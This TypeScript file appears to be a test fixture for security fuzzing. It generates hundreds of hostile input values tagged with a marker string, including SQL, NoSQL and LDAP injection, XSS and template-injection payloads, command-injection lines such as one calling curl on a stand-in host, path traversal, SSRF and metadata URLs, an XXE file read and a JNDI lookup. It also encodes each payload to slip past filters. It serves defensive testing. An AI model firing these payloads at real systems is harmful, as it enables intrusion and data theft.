/** Is in every hostile text, and in no answer of the service by itself. */
export const needle = 'Xq7Zneedle';

const attacks: readonly string[] = [
  // Queries, of SQL, documents, directories and paths in XML.
  ...[
    `' OR '1'='1`,
    `'; DROP TABLE events;--`,
    `1 UNION SELECT name FROM sqlite_master`,
    `" OR ""="`,
    `\\'; --`,
    `1;SELECT pg_sleep(9)`,
  ],
  ...[`{"$gt":""}`, `$where: sleep(9)`, `[$ne]=1`, `*)(uid=*))(|(uid=*`, `' or count(/*)=1 or 'a'='b`, `$set.roles`],
  // Scripts and templates of pages.
  ...[`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `javascript:alert(1)`, `<svg/onload=alert(1)>`, `]]><x/>`],
  ...[`{{7*7}}`, `\${7*7}`, `#{7*7}`, `<%= 7*7 %>`, `{{constructor.constructor('return 1')()}}`, `%{(#a=1)}`],
  // Commands, files, other hosts.
  ...[
    `; cat /etc/passwd`,
    `| id`,
    `$(id)`,
    '`id`',
    `&& curl http://192.0.2.1/`,
    `../../../../etc/passwd`,
    `..\\..\\windows\\win.ini`,
  ],
  ...[
    `/dev/zero`,
    `file:///etc/passwd`,
    `http://169.254.169.254/latest/meta-data`,
    `gopher://127.0.0.1:25/`,
    `//192.0.2.1/x`,
    `con`,
  ],
  ...[`<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`, `\${jndi:ldap://192.0.2.1/a}`, `=cmd|' /C calc'!A0`],
  // Names that mean something to a language, and ends of a line.
  ...[
    `__proto__`,
    `constructor`,
    `prototype`,
    `toString`,
    `hasOwnProperty`,
    `undefined`,
    `null`,
    `NaN`,
    `Infinity`,
    `[object Object]`,
  ],
  ...[
    `a\r\nSet-Cookie: a=1`,
    `a\n{"level":50}`,
    `\u0000`,
    `\u001b[2J`,
    `%s%s%n`,
    `%00`,
    `%0d%0aX: 1`,
    `\u2028`,
    `\ufeff`,
    `\u202e`,
  ],
  // Numbers, times, patterns that are dear to match, identifiers.
  ...[
    `-1`,
    `1e309`,
    `0x7fffffff`,
    `9223372036854775808`,
    `99999-99-99T99:99:99Z`,
    `P9999999999Y`,
    `${'a'.repeat(60)}!`,
    `(a+)+$`,
  ],
  ...[`ivan@example.org`, `anna.o'neil+x@example.org`, `00000000-0000-0000-0000-000000000000`, `Zażółć`, `مرحبا`, `👩‍👩‍👧‍👦`],
];

/** How an attack is hidden from what looks for it. */
const disguises: readonly ((attack: string) => string)[] = [
  (attack) => needle + attack,
  (attack) => attack + needle,
  (attack) => encodeURIComponent(needle + attack),
  (attack) => encodeURIComponent(encodeURIComponent(needle + attack)),
  (attack) => [...attack].map((one) => `&#${one.codePointAt(0)};`).join('') + needle,
  (attack) =>
    [...attack].map((one) => (one > ' ' && one < '\u007f' ? String.fromCodePoint(one.codePointAt(0)! + 0xfee0) : one)).join('') +
    needle,
  (attack) => Buffer.from(needle + attack).toString('base64url') + needle,
];

/** What is no text, or no text that JSON and HTTP carry without harm. */
const shapes: readonly unknown[] = [
  ...[null, true, false, 0, -0, -1, 0.1, 1e308, 1e-320, Number.MAX_SAFE_INTEGER + 2, [], {}, [[]], [null], '', ' ', '\t'],
  ...[
    needle.repeat(1_000),
    `${needle}\ud800`,
    `\udc00${needle}`,
    { [needle]: needle },
    [needle],
    Array(300).fill(needle),
    { $gt: needle },
  ],
  ...[
    JSON.parse(`{"__proto__":{"roles":["${needle}"]}}`),
    { constructor: { prototype: { [needle]: 1 } } },
    { length: 1e9, 0: needle },
  ],
  ...[
    Array(12)
      .fill(0)
      .reduce<unknown>((inner) => [inner], needle),
    { toJSON: needle },
    { 'a.b': needle },
    { valueOf: needle },
    `${needle}\u0007`,
    { [`${needle}\n`]: 0 },
  ],
];

/** More than 500, every one different. */
export const hostileValues: readonly unknown[] = [
  ...attacks.flatMap((attack) => disguises.map((hide) => hide(attack))),
  ...shapes,
];
